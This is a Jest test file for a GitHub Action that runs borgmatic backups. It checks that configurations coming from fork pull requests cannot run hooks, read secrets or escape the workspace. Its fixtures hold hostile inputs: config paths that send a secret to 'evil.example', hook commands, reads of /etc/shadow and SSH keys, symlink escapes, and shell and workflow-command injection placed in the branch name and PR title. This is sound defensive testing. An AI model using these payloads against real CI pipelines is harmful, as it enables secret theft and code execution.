import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { forkWarning } from '../../src/fork.js';
import { type Ended, inputs, startEntry } from './entry.js';

/** Stands in files, variables and folders that no pull request may learn anything of. */
const canary = 'CANARY-7f3a91c2';

let folder = '';
const path = (name: string) => join(folder, name);

function put(name: string, text: string, mode = 0o644): string {
  mkdirSync(dirname(path(name)), { recursive: true });
  writeFileSync(path(name), text, { mode });
  return path(name);
}

/** A machine with a checkout of somebody's pull request, and programs that leave a trace where they are run. */
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'borgflow-request-')));
  put('home/.ssh/id_ed25519', canary);
  put('outside/secret.yaml', `keep_dayly: ${canary}\nencryption_passphrase: ${canary}\n`);
  put('home/.config/borgmatic/config.yaml', `keep_dayly: ${canary}\n`);
  for (const name of ['borg', 'sh', 'bash', 'ssh', 'logger', 'sudo', 'apt-get', 'git', 'setsid'])
    put(`programs/${name}`, `#!/bin/false\n`, 0o755);
  const traced = `#!${execFileSync('which', ['bash'], { encoding: 'utf8' }).trim()}\necho "$0 $*" >> ${path('trace')}\n`;
  for (const name of readdirSync(path('programs'))) put(`programs/${name}`, traced, 0o755);
  for (const name of ['borg', 'hook.sh']) put(`workspace/${name}`, traced, 0o755);
  put('workspace/.npmrc', 'script-shell=./hook.sh\n');
  for (const name of ['yaml', 'tinyglobby', '@actions/core'])
    put(
      `workspace/node_modules/${name}/index.js`,
      `require('fs').appendFileSync(${JSON.stringify(path('trace'))}, 'loaded\\n')\n`,
    );
  mkdirSync(path('temp/_runner_file_commands'), { recursive: true });
  for (const name of ['env', 'output', 'state', 'summary']) put(`temp/_runner_file_commands/${name}`, '');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const commandFile = (name: string) => path(`temp/_runner_file_commands/${name}`);

function environment(event: object, given: Readonly<Record<string, string>>): Readonly<Record<string, string>> {
  return {
    PATH: path('programs'),
    HOME: path('home'),
    RUNNER_TEMP: path('temp'),
    GITHUB_WORKSPACE: path('workspace'),
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: put('temp/event.json', JSON.stringify(event)),
    GITHUB_HEAD_REF: '`$(touch x)`::error::evil',
    GITHUB_ENV: commandFile('env'),
    GITHUB_OUTPUT: commandFile('output'),
    GITHUB_STATE: commandFile('state'),
    GITHUB_STEP_SUMMARY: commandFile('summary'),
    A_SECRET: canary,
    BORG_PASSPHRASE: canary,
    ...inputs(given),
  };
}

const fork = {
  repository: { full_name: 'owner/backup' },
  pull_request: { title: '::error::evil', head: { repo: { full_name: 'mallory/backup', fork: true } } },
};

/** What a step of this pull request did. */
async function step(given: Readonly<Record<string, string>>, before: readonly string[] = []): Promise<Ended> {
  const start = { folder: path('workspace'), environment: environment(fork, given), before };
  return await startEntry('action', start).ended;
}

const traced = () => (existsSync(path('trace')) ? readFileSync(path('trace'), 'utf8') : '');

/** Nothing was run, nothing was written but what the runner asked for, and nothing was learned. */
function expectHarmless({ log }: Ended): void {
  expect(traced()).toBe('');
  expect(log).not.toContain(canary);
  expect(log).not.toContain('Internal error');
  expect(readFileSync(commandFile('env'), 'utf8')).toBe('');
  const told = ['output', 'state', 'summary'].map((name) => readFileSync(commandFile(name), 'utf8')).join('');
  expect(told).not.toContain(canary);
  expect(readdirSync(path('temp')).toSorted()).toEqual(['_runner_file_commands', 'event.json']);
}

/** Everything in a configuration that a run would start, read or write. */
const malicious = (more = '') => `repositories:
  - path: "ssh://evil.example/./\${A_SECRET}"
  - path: "\${A_SECRET}"
source_directories: [/, "/*/*/*", "/**"]
local_path: ./borg
remote_path: ./borg
ssh_command: ./hook.sh
encryption_passcommand: ./hook.sh
before_backup: ["./hook.sh \${A_SECRET}"]
before_everything: ["./hook.sh"]
on_error: ["./hook.sh"]
after_everything: ["./hook.sh"]
commands:
  - {before: everything, run: ["./hook.sh"]}
patterns_from: [/etc/shadow]
exclude_from: [/dev/zero]
log_file: ${commandFile('env')}
working_directory: ${path('outside')}
borg_base_directory: ${path('outside/borg')}
healthchecks: {ping_url: "http://127.0.0.1:9/\${A_SECRET}"}
${more}`;

describe('a pull request that is validated', () => {
  const validate = { config: 'server.yaml', actions: 'config validate' };

  test('runs nothing, writes nothing and learns nothing, whatever its configuration names', async () => {
    put('workspace/server.yaml', malicious());
    expectHarmless(await step(validate));
    expect(readdirSync(path('outside'))).toEqual(['secret.yaml']);
  });

  test('learns nothing from the faults that it makes', async () => {
    const faults = [
      'umask: "${A_SECRET}"',
      'keep_daily: "${A_SECRET}"',
      'constants: {c: "${A_SECRET}"}',
      'x${A_SECRET}: 1',
    ];
    put('workspace/server.yaml', malicious(`${faults.join('\n')}\nkeep_weekly: "{c}"\n`));
    const done = await step(validate);
    expect(done.status).toBe(1);
    expectHarmless(done);
  });

  test.each([
    ['a file beside the workspace', '../outside/secret.yaml'],
    ['a key', '~/.ssh/id_ed25519'],
    ['its own environment', '/proc/self/environ'],
    ['the event', '../temp/event.json'],
  ])('includes nothing from outside: %s', async (_, name) => {
    put('workspace/server.yaml', `repositories: [/r]\n<<: !include ${name}\n`);
    const done = await step(validate);
    expect(done.log).toContain('is outside the workspace');
    expectHarmless(done);
  });

  test.each([
    ['the file itself', 'server.yaml', '../outside/secret.yaml', 'server.yaml'],
    ['a file in a folder', 'files/one.yaml', '../../outside/secret.yaml', 'files'],
    ['a folder', 'files', '../outside', 'files'],
    ['a folder on the way', 'linked', '../outside', 'linked/secret.yaml'],
    ['the place that is looked in by default', '.github/borgflow.yaml', '../../outside/secret.yaml', ''],
    ['the folder of that place', '.github', '../outside', ''],
  ])('is not led outside by a link: %s', async (_, link, target, config) => {
    mkdirSync(dirname(path(`workspace/${link}`)), { recursive: true });
    symlinkSync(target, path(`workspace/${link}`));
    symlinkSync('secret.yaml', path('outside/borgflow.yaml'));
    const done = await step({ ...validate, config });
    expect(done.status).toBe(1);
    expectHarmless(done);
  });

  test('that has no configuration is not checked by that of the machine', async () => {
    const done = await step({ ...validate, config: '' });
    expect(done.status).toBe(1);
    expect(done.log).toContain('Looked for .github/borgflow.yaml and .github/borgmatic.yaml.');
    expectHarmless(done);
  });

  test('in a workspace that is a link itself is checked as in any other', async () => {
    symlinkSync('workspace', path('linked'));
    put('workspace/server.yaml', 'repositories: [/r]\n<<: !include part.yaml\n');
    put('workspace/part.yaml', 'keep_daily: 7\n');
    const variables = { ...environment(fork, validate), GITHUB_WORKSPACE: path('linked') };
    const done = await startEntry('action', { folder: path('linked'), environment: variables }).ended;
    expect(done.log).toContain('1 configuration file is valid.');
    expectHarmless(done);
  });

  test('starts no process, opens no file of the workspace or the machine but its configuration, and no connection', async () => {
    const strace = ['/usr/bin/strace', '/bin/strace'].find(existsSync);
    if (strace === undefined) return; // where there is no tracer, the programs above leave their trace
    put('workspace/server.yaml', malicious());
    const calls = ['-f', '-qq', '-e', 'trace=execve,connect,openat,open,mkdir,unlink,rename', '-o', path('calls')];
    await step(validate, [strace, ...calls]);
    const lines = readFileSync(path('calls'), 'utf8').split('\n');
    expect(lines.filter((line) => line.includes('execve('))).toHaveLength(1);
    expect(lines.filter((line) => line.includes('connect('))).toEqual([]);
    const opened = lines.flatMap((line) => /open(?:at)?\((?:AT_FDCWD, )?"([^"]+)"/.exec(line)?.[1] ?? []);
    const own = opened.filter((file) => file.startsWith(folder));
    expect(
      [...new Set(own)].filter((file) => !/server\.yaml$|_runner_file_commands\/|package\.json$/.test(file)),
    ).toEqual([]);
    expect(opened.filter((file) => /shadow|\/dev\/zero/.test(file))).toEqual([]);
  });
});

describe('a pull request from a fork that is run', () => {
  const advice =
    'Validate such files instead, with the input actions: config validate, which runs nothing that they name.';
  const sound = () => ({ configuration: `repositories: [${path('repository')}]\n`, permissions: 'off' });

  test('as a dry run is a warning, which an annotation shows', async () => {
    const { log } = await step({ ...sound(), 'dry-run': 'true' });
    expect(log).toMatch(
      /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. A dry run is not safe/m,
    );
    expect(log).toContain(advice);
  });

  test('in earnest is one, too', async () => {
    const { log } = await step(sound());
    expect(log).toMatch(
      /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. This step runs the hooks/m,
    );
    expect(log).toContain(advice);
  });

  test('as a mere validation is none', async () => {
    put('workspace/server.yaml', 'repositories: [/r]\n');
    const { log } = await step({ config: 'server.yaml', actions: 'config validate' });
    expect(log).not.toContain('fork');
  });
});

describe('whether an event comes from a fork', () => {
  const warned = (event: string, payload: unknown) =>
    forkWarning(
      {
        GITHUB_EVENT_NAME: event,
        GITHUB_EVENT_PATH: put('event.json', typeof payload === 'string' ? payload : JSON.stringify(payload)),
      },
      true,
    );
  const head = (repo: unknown) => ({ repository: { full_name: 'owner/backup' }, pull_request: { head: { repo } } });
  const started = (head_repository: unknown, event = 'pull_request') => ({
    repository: { full_name: 'owner/backup' },
    workflow_run: { event, head_repository },
  });
  const events = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'];

  test.each(events)('is seen by the name of its repository: %s', (event) => {
    expect(warned(event, head({ full_name: 'mallory/backup' }))).toContain('from a fork (mallory/backup).');
    expect(warned(event, head({ full_name: 'owner/backup', fork: true }))).toBeUndefined();
  });

  test.each(events)('counts as one where that is gone, or can’t be read: %s', (event) => {
    expect(warned(event, head(null))).toContain('comes from a fork.');
    expect(warned(event, {})).toContain('comes from a fork.');
    expect(warned(event, 'no JSON')).toContain('may come from a fork');
    expect(forkWarning({ GITHUB_EVENT_NAME: event }, true)).toContain('may come from a fork');
    expect(forkWarning({ GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: '/dev/zero' }, true)).toContain(
      'may come from a fork',
    );
  });

  test('is no place for words of somebody else', () => {
    const warning = warned('pull_request', head({ full_name: 'a/b\n::error::evil' }));
    expect(warning).toContain('comes from a fork.');
    expect(warning).not.toContain('evil');
  });

  test('is asked of a run that another one started, and of a comment on a pull request', () => {
    expect(warned('workflow_run', started({ full_name: 'mallory/backup' }))).toContain('from a fork (mallory/backup).');
    expect(warned('workflow_run', started(null))).toContain('from a fork.');
    expect(warned('workflow_run', started({ full_name: 'owner/backup' }))).toBeUndefined();
    expect(warned('issue_comment', { issue: { pull_request: {} } })).toContain('may come from a fork');
    expect(warned('issue_comment', { issue: {} })).toBeUndefined();
  });

  test.each(['push', 'schedule', 'workflow_dispatch', ''])('is not asked of others: %j', (event) => {
    expect(warned(event, head({ full_name: 'mallory/backup' }))).toBeUndefined();
  });
});
